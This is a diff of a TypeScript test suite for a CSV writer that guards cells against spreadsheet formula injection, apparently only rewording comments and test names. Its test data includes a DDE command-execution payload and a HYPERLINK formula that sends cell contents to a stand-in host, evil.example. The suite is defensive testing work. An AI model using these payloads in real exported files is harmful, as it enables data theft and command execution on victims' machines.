@@ -8,7 +8,7 @@ import { guardCell, unguardCell, writeCsv } from './csv.ts';
 const begin = ['=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠'];
 const bodies = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"Click")', 'SUM(1,2);3', '"quoted"'];
 const before = ['', ' ', '   ', '\u00a0', '"', "'", "''", 'text;', 'text,', 'a|', 'one\n', 'two\r\n', 'x\t', ', "'];
-/** 11 × 5 × 14 cells that each mean harm. */
+/** 11 × 5 × 14 malicious cells. */
 const hostile = begin.flatMap((sign) => bodies.flatMap((body) => before.map((lead) => lead + sign + body)));
 
 async function fileOf(rows: string[][]): Promise<string> {
@@ -22,7 +22,7 @@ async function* toStream<T>(rows: Iterable<T>): AsyncGenerator<T> {
   for (const row of rows) yield await Promise.resolve(row);
 }
 
-/** Cell by cell. */
+/** Parses cell by cell. */
 function readByCell(csv: string): string[][] {
   const rows: string[][] = [[]];
   for (const [, cell, end] of csv.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/gy)) {
@@ -40,7 +40,7 @@ function readByPython(csv: string): string[][] {
   return JSON.parse(execFileSync('python3', ['-c', script], { input, encoding: 'utf8' })) as string[][];
 }
 
-/** What spreadsheets with any of these separators would take for cells, if they minded no quotes. */
+/** Returns the cells a spreadsheet would see with any of these separators if it ignored quotes. */
 const possibleCells = (csv: string) => csv.split(/[,;|\t\r\n]/).map((cell) => cell.replace(/^[\s"\u00a0\ufeff]+/, ''));
 
 describe('a cell', () => {
@@ -63,12 +63,12 @@ describe('a cell', () => {
     ['2026-11-21', '2026-11-21'],
     ["it's; fine", "it's; fine"],
     ['', ''],
-  ])('%j is written as %j', (text, written) => {
+  ])('writes %j as %j', (text, written) => {
     expect(guardCell(text)).toBe(written);
     expect(unguardCell(written)).toBe(text);
   });
 
-  it('comes back to the letter, whatever it holds', () => {
+  it('round-trips any content exactly', () => {
     const unit = fc.constantFrom(...begin, ...`,;|\n"' ax\u00a0`);
     fc.assert(
       fc.property(fc.oneof(fc.string({ unit, maxLength: 20 }), fc.string({ unit: 'binary' })), (text) => {
@@ -91,7 +91,7 @@ describe('a file', () => {
   it.each([
     ['cell by cell', readByCell, false],
     ['by Python', readByPython, true],
-  ] as const)('is read %s as what went in', { tags: ['check-26'] }, async (how, read, needsPython) => {
+  ] as const)('matches the input when read %s', { tags: ['check-26'] }, async (how, read, needsPython) => {
     if (needsPython && !hasPython) return;
     expect(rows.length).toBeGreaterThan(500);
     const csv = (await fileOf(rows)).slice(1);
@@ -106,11 +106,11 @@ describe('a file', () => {
     const cells = possibleCells(await fileOf(rows));
     const formulas = cells.filter((cell) => /^[=+\-@\0＝＋－＠]/.test(cell));
     expect(formulas).toEqual([]);
-    // The same look finds them in a file without the guard.
+    // The same check finds them in a file without the guard.
     expect(possibleCells(hostile.join('\r\n')).some((cell) => cell.startsWith('='))).toBe(true);
   });
 
-  it('asks for no more rows than are taken, and for none when nobody reads any more', async () => {
+  it('requests rows only as they are read, and none once the reader is gone', async () => {
     let asked = 0;
     let isEnded = false;
     async function* endless() {
@@ -134,7 +134,7 @@ describe('a file', () => {
     expect(isEnded).toBe(true);
   });
 
-  it('breaks off where the rows do', async () => {
+  it('fails when the rows fail', async () => {
     async function* broken() {
       yield await Promise.resolve(['a']);
       throw new Error('no database');
